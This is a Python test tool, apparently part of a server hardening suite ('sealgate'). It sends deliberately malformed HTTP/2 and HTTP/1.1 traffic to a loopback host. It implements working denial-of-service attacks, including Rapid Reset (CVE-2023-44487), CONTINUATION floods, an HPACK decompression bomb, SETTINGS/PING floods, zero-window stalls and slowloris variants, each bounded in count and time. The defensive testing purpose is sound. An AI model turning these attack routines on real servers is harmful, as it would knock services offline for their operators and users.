#!/usr/bin/env python3
"""Abusive HTTP/2 and HTTP/1.1 clients for sealgate's hardening tests (loopback only).

Frames are built by hand (struct) so that invalid sequences can be sent; the `hpack`
package (installed with `h2`, see requirements.txt) encodes ordinary header blocks.
Every mode is bounded in frames sent and in seconds, and prints one JSON line:
  {"mode": ..., "sent": N, "goaway": <error code or null>, "closed": bool, "responses": {...}, ...}
"""
import argparse
import json
import random
import select
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIO = 0x1, 0x1, 0x4, 0x8, 0x20


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream & 0x7FFFFFFF) + payload


def settings(pairs, ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Peer:
    """A raw connection plus a non-blocking frame reader that tallies what the server sent."""

    def __init__(self, args, alpn="h2"):
        raw = socket.create_connection((args.host, args.port), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if args.tls:
            ctx = ssl.create_default_context(cafile=args.cafile)
            ctx.check_hostname = False
            ctx.set_alpn_protocols([alpn])
            raw = ctx.wrap_socket(raw, server_hostname="localhost")
        self.sock = raw
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.rst = 0
        self.statuses = {}
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.header_block = {}
        self.bytes_in = 0
        self.data_in = 0

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def try_send(self, data, timeout=2.0):
        """Send with a deadline: a server that stops reading must not hang the client."""
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return True
        except socket.timeout:
            return False
        except (OSError, ssl.SSLError):
            self.closed = True
            return False
        finally:
            self.sock.settimeout(10)

    def pump(self, seconds=0.0):
        """Read whatever arrives within `seconds`; returns False once the server closed."""
        deadline = time.time() + seconds
        while not self.closed:
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            wait = max(0.0, deadline - time.time())
            if not pending:
                ready, _, _ = select.select([self.sock], [], [], wait)
                if not ready:
                    return True
            try:
                self.sock.setblocking(False)
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                chunk = None
            except (OSError, ssl.SSLError):
                chunk = b""
            finally:
                try:
                    self.sock.setblocking(True)
                except OSError:
                    pass
            if chunk is None:
                if time.time() >= deadline:
                    return True
                continue
            if not chunk:
                self.closed = True
                return False
            self.bytes_in += len(chunk)
            self.buf += chunk
            self._parse()
        return False

    def _parse(self):
        while len(self.buf) >= 9:
            length = struct.unpack(">I", b"\0" + self.buf[:3])[0]
            if len(self.buf) < 9 + length:
                return
            ftype, flags, stream = struct.unpack(">BBI", self.buf[3:9])
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            stream &= 0x7FFFFFFF
            if ftype == SETTINGS and not flags & ACK:
                # The server's own window settings only take effect once acknowledged.
                self.send(settings([], ack=True))
            elif ftype == GOAWAY and len(payload) >= 8:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif ftype == RST_STREAM:
                self.rst += 1
            elif ftype == DATA:
                self.data_in += length
            elif ftype in (HEADERS, CONTINUATION):
                block = self.header_block.get(stream, b"") + (payload if ftype == CONTINUATION else strip_headers(flags, payload))
                if flags & END_HEADERS:
                    self.header_block.pop(stream, None)
                    try:
                        for name, value in self.decoder.decode(block):
                            if name in (":status", b":status"):
                                status = value.decode() if isinstance(value, bytes) else value
                                self.statuses[status] = self.statuses.get(status, 0) + 1
                    except Exception:
                        pass
                else:
                    self.header_block[stream] = block

    def start_h2(self, extra_settings=()):
        self.send(PREFACE + settings(list(extra_settings)))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def report(self, mode, sent, **extra):
        result = {"mode": mode, "sent": sent, "goaway": self.goaway, "closed": self.closed, "rst": self.rst,
                  "responses": self.statuses, "bytes_in": self.bytes_in}
        result.update(extra)
        print(json.dumps(result), flush=True)


def strip_headers(flags, payload):
    pad = 0
    if flags & PADDED and payload:
        pad = payload[0]
        payload = payload[1:]
    if flags & PRIO:
        payload = payload[5:]
    return payload[:len(payload) - pad] if pad else payload


def request_block(encoder, path, method="GET", extra=()):
    return encoder.encode([(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")] + list(extra))


def hpack_int(value, prefix_bits, first_byte_flags):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


# --- modes -------------------------------------------------------------------------------------

def rapid_reset(args):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), as fast as possible."""
    peer = Peer(args)
    peer.start_h2()
    enc = hpack.Encoder()
    sent = 0
    deadline = time.time() + args.seconds
    stream = 1
    while sent < args.count and time.time() < deadline and not peer.closed:
        batch = b""
        for _ in range(50):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(enc, args.path))
            batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
            sent += 1
        if not peer.try_send(batch):
            break
        peer.pump(0)
    peer.pump(2)
    peer.report("rapid-reset", sent)


def continuation_flood(args):
    """CVE-2024-27316 class: a header block that never ends, one CONTINUATION after another."""
    peer = Peer(args)
    peer.start_h2()
    enc = hpack.Encoder()
    peer.send(frame(HEADERS, 0, 1, request_block(enc, args.path)))
    sent = 1
    filler = b"\x40\x01x\x7f" + bytes([0x7f, 0x81, 0x7f]) + b"y" * 16000  # literal x: <long value>, split over frames
    deadline = time.time() + args.seconds
    chunk = frame(CONTINUATION, 0, 1, filler[:16384])
    while sent < args.count and time.time() < deadline and not peer.closed:
        if not peer.try_send(chunk):
            break
        sent += 1
        if sent % 16 == 0:
            peer.pump(0)
    peer.pump(2)
    peer.report("continuation-flood", sent)


def hpack_bomb(args):
    """One 4 KiB header stored in the dynamic table, then referenced by 1-byte indexes many times."""
    peer = Peer(args)
    peer.start_h2()
    enc = hpack.Encoder()
    value = b"v" * 4000
    insert = b"\x40" + hpack_int(len(b"x-bomb"), 7, 0) + b"x-bomb" + hpack_int(len(value), 7, 0) + value
    refs = b"\xbe" * args.count  # index 62 = the entry just inserted
    block = request_block(enc, args.path) + insert + refs
    pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    sent = 0
    for i, piece in enumerate(pieces):
        ftype = HEADERS if i == 0 else CONTINUATION
        flags = (END_STREAM if i == 0 else 0) | (END_HEADERS if i == len(pieces) - 1 else 0)
        if not peer.try_send(frame(ftype, flags, 1, piece)):
            break
        sent += 1
    peer.pump(args.seconds)
    peer.report("hpack-bomb", sent, decoded_bytes=args.count * 4006)


def many_headers(args):
    """Thousands of small distinct headers on one request."""
    peer = Peer(args)
    peer.start_h2()
    enc = hpack.Encoder()
    block = request_block(enc, args.path, extra=[("x-h%d" % i, "v") for i in range(args.count)])
    pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    sent = 0
    for i, piece in enumerate(pieces):
        ftype = HEADERS if i == 0 else CONTINUATION
        flags = (END_STREAM if i == 0 else 0) | (END_HEADERS if i == len(pieces) - 1 else 0)
        if not peer.try_send(frame(ftype, flags, 1, piece)):
            break
        sent += 1
    peer.pump(args.seconds)
    peer.report("many-headers", sent)


def settings_flood(args):
    """SETTINGS frames (each demands an ACK) while never reading the ACKs."""
    peer = Peer(args)
    peer.start_h2()
    sent = 0
    deadline = time.time() + args.seconds
    one = settings([(4, 65535)])
    while sent < args.count and time.time() < deadline and not peer.closed:
        if not peer.try_send(one * 100, timeout=1):
            break
        sent += 100
    peer.pump(2)
    peer.report("settings-flood", sent)


def ping_flood(args):
    """PINGs (each demands an ACK) while never reading."""
    peer = Peer(args)
    peer.start_h2()
    sent = 0
    deadline = time.time() + args.seconds
    one = frame(PING, 0, 0, b"12345678")
    while sent < args.count and time.time() < deadline and not peer.closed:
        if not peer.try_send(one * 100, timeout=1):
            break
        sent += 100
    peer.pump(2)
    peer.report("ping-flood", sent)


def zero_window(args):
    """Client window 0 (never updated) and many requests for large responses; held open."""
    peer = Peer(args)
    peer.start_h2(extra_settings=[(4, 0)])  # SETTINGS_INITIAL_WINDOW_SIZE = 0
    enc = hpack.Encoder()
    batch = b""
    for i in range(args.count):
        batch += frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, request_block(enc, args.path))
    peer.send(batch)
    # Keep the connection looking alive with PINGs, but never grant window.
    deadline = time.time() + args.seconds
    while time.time() < deadline and not peer.closed:
        peer.send(frame(PING, 0, 0, b"keepaliv"))
        peer.pump(0.5)
    peer.report("zero-window", args.count, data_in=peer.data_in)


def body_hoard(args):
    """Many streams each uploading a large body that never ends (request buffers on the server)."""
    peer = Peer(args)
    peer.start_h2()
    peer.pump(0.3)  # receive and acknowledge the server's SETTINGS (1 MiB stream windows)
    enc = hpack.Encoder()
    chunk = b"b" * 16384
    sent = 0
    deadline = time.time() + args.seconds
    for i in range(args.streams):
        sid = 1 + 2 * i
        peer.send(frame(HEADERS, END_HEADERS, sid, request_block(enc, args.path, method="POST")))
    per_stream = args.count // 16384
    for _ in range(per_stream):
        for i in range(args.streams):
            if time.time() >= deadline or peer.closed:
                break
            if not peer.try_send(frame(DATA, 0, 1 + 2 * i, chunk), timeout=1):
                break
            sent += len(chunk)
        peer.pump(0)
    peer.pump(2)
    peer.report("body-hoard", sent, data_in=peer.data_in)


def slow_tls(args):
    """Many sockets that send a partial ClientHello and then nothing (TLS slowloris)."""
    socks = []
    partial = bytes.fromhex("16030100f4010000f00303") + b"\x00" * 10
    for _ in range(args.count):
        try:
            s = socket.create_connection((args.host, args.port), timeout=5)
            s.sendall(partial)
            socks.append(s)
        except OSError:
            break
    opened = len(socks)
    deadline = time.time() + args.seconds
    while time.time() < deadline:
        ready, _, _ = select.select(socks, [], [], 0.2)
        for s in ready:
            try:
                if not s.recv(4096):
                    socks.remove(s)
                    s.close()
            except OSError:
                socks.remove(s)
                s.close()
        if not socks:
            break
    print(json.dumps({"mode": "slow-tls", "opened": opened, "still_open": len(socks)}), flush=True)
    for s in socks:
        s.close()


def half_open(args):
    """Sockets that connect (plain or TLS) and send a FIN right away, or nothing at all."""
    socks = []
    for i in range(args.count):
        try:
            s = socket.create_connection((args.host, args.port), timeout=5)
            if i % 2 == 0:
                s.shutdown(socket.SHUT_WR)
            socks.append(s)
        except OSError:
            break
    opened = len(socks)
    deadline = time.time() + args.seconds
    while time.time() < deadline and socks:
        ready, _, _ = select.select(socks, [], [], 0.2)
        for s in ready:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                socks.remove(s)
                s.close()
    print(json.dumps({"mode": "half-open", "opened": opened, "still_open": len(socks)}), flush=True)
    for s in socks:
        s.close()


def reset_mid_response(args):
    """Ask for large responses over TLS, then reset the connection (RST) while the server writes."""
    done = 0
    for _ in range(args.count):
        try:
            peer = Peer(args, alpn="http/1.1")
            peer.send(b"GET /big HTTP/1.1\r\nHost: localhost\r\n\r\n" * 4)
            peer.sock.recv(100)
            peer.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            peer.close()
            done += 1
        except (OSError, ssl.SSLError):
            pass
        time.sleep(0.05)
    print(json.dumps({"mode": "reset-mid-response", "resets": done}), flush=True)


def slow_headers(args):
    """HTTP/1.1 slowloris: a request head dribbled one byte every 0.2 s, never finished."""
    s = socket.create_connection((args.host, args.port), timeout=5)
    s.sendall(b"GET /fast HTTP/1.1\r\nHost: a\r\n")
    started = time.time()
    answer, closed_after = b"", None
    filler = b"X-Slow: " + b"s" * 10000
    i = 0
    while time.time() - started < args.seconds and i < len(filler):
        try:
            s.sendall(filler[i:i + 1])
        except OSError:
            closed_after = time.time() - started
            break
        i += 1
        ready, _, _ = select.select([s], [], [], 0.2)
        if ready:
            try:
                chunk = s.recv(4096)
            except OSError:
                chunk = b""
            if not chunk:
                closed_after = time.time() - started
                break
            answer += chunk
    s.close()
    status = answer[9:12].decode() if answer.startswith(b"HTTP/1.1 ") else None
    print(json.dumps({"mode": "slow-headers", "status": status, "closed_after": closed_after, "bytes_sent": i}), flush=True)


def slow_body(args):
    """HTTP/2 slowloris: a POST whose body arrives one byte every 0.2 s, never finished."""
    peer = Peer(args)
    peer.start_h2()
    peer.pump(0.2)
    enc = hpack.Encoder()
    peer.send(frame(HEADERS, END_HEADERS, 1, request_block(enc, args.path, method="POST")))
    started = time.time()
    answered_after = None
    while time.time() - started < args.seconds and not peer.closed:
        if not peer.send(frame(DATA, 0, 1, b"x")):
            break
        peer.pump(0.2)
        if peer.statuses and answered_after is None:
            answered_after = time.time() - started
            break
    peer.report("slow-body", 1, answered_after=answered_after)


MODES = {
    "slow-headers": slow_headers, "slow-body": slow_body,
    "reset-mid-response": reset_mid_response,
    "rapid-reset": rapid_reset, "continuation-flood": continuation_flood, "hpack-bomb": hpack_bomb,
    "many-headers": many_headers, "settings-flood": settings_flood, "ping-flood": ping_flood,
    "zero-window": zero_window, "body-hoard": body_hoard, "slow-tls": slow_tls, "half-open": half_open,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=sorted(MODES))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--cafile")
    parser.add_argument("--path", default="/fast")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--streams", type=int, default=10)
    parser.add_argument("--seconds", type=float, default=5)
    args = parser.parse_args()
    if args.host not in ("127.0.0.1", "::1", "localhost"):
        sys.exit("loopback only")
    MODES[args.mode](args)


if __name__ == "__main__":
    main()
